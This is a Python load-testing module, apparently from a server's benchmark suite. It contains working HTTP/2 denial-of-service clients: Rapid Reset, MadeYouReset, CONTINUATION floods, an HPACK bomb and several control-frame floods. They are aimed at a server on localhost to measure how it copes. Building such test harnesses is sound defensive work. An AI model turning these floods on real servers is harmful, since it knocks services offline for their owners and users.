"""Clients that attack by HTTP/2: what each sends, turn by turn, after a connection's preface.

``python -m bench.load.attacks NAME PORT SECONDS`` is one that comes back whenever it is cut off; it prints how often it
was, how many bytes it sent, and the CPU time in seconds that this took.
"""

import socket
import struct
import sys
import time
from collections.abc import Callable

HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION, WINDOW_UPDATE, DATA = 1, 2, 3, 4, 6, 9, 8, 0
# :method GET, :scheme https, :path /, and an :authority, all as HPACK has them.
GET = b"\x82\x87\x84\x41\x04test"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Turns after which a connection that still stands is given up.
TURNS = 200_000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of any kind, right or wrong (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset(turn: int) -> bytes:
    """Requests taken back at once (CVE-2023-44487)."""
    stream = 2 * turn + 1
    return frame(HEADERS, 5, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset(turn: int) -> bytes:
    """Requests with a mistake, for which the server has to reset them (CVE-2025-8671)."""
    stream = 2 * turn + 1
    return frame(HEADERS, 5, stream, GET) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def continuations(turn: int) -> bytes:
    """A head that goes on and on with nothing."""
    return frame(HEADERS, 1, 1, GET) if turn == 0 else frame(CONTINUATION, 0, 1, b"")


def long_continuations(turn: int) -> bytes:
    """A head that goes on and on with fields."""
    field = b"\x00\x01a\x7f\x80\x01" + b"b" * 255
    return frame(HEADERS, 1, 1, GET) if turn == 0 else frame(CONTINUATION, 0, 1, field * 60)


def bomb(turn: int) -> bytes:
    """One large field, named by one byte each of 12,000 times."""
    entry = b"\x40\x01a\x7f\xd1\x1e" + b"b" * 4000
    return frame(HEADERS, 5, 2 * turn + 1, GET + (entry if turn == 0 else b"") + b"\xbe" * 12000)


def settings(_: int) -> bytes:
    """Settings, each of which has to be acknowledged."""
    return frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")


def pings(_: int) -> bytes:
    """Pings, each of which has to be answered."""
    return frame(PING, 0, 0, b"12345678")


def priorities(turn: int) -> bytes:
    """Priorities of streams that nobody opens."""
    return frame(PRIORITY, 0, 1 + 2 * (turn % 50), b"\0\0\0\0\x01")


def empty_data(turn: int) -> bytes:
    """A body of pieces without a byte."""
    return frame(HEADERS, 4, 1, b"\x83" + GET[1:]) if turn == 0 else frame(DATA, 0, 1)


def window_updates(_: int) -> bytes:
    """A window that opens byte by byte."""
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown(_: int) -> bytes:
    """Frames of a type that there is none of."""
    return frame(200, 0, 0, b"?")


ATTACKS: dict[str, Callable[[int], bytes]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, made_you_reset, continuations, long_continuations, bomb, settings, pings, priorities, empty_data,
        window_updates, unknown,
    )
}  # fmt: skip


def main(name: str, port: int, seconds: float) -> None:
    """Attack that long; at port 0 nobody: everything is made, and nothing sent."""
    attack, cut, sent = ATTACKS[name], 0, 0
    began = time.process_time()
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        if port == 0:
            sent += sum(len(attack(turn)) for turn in range(100))
            continue
        with socket.create_connection(("127.0.0.1", port), 10) as sock:
            try:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for turn in range(TURNS):
                    sent += sock.send(attack(turn))
            except (BrokenPipeError, ConnectionResetError):
                cut += 1
    print(cut, sent, time.process_time() - began)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
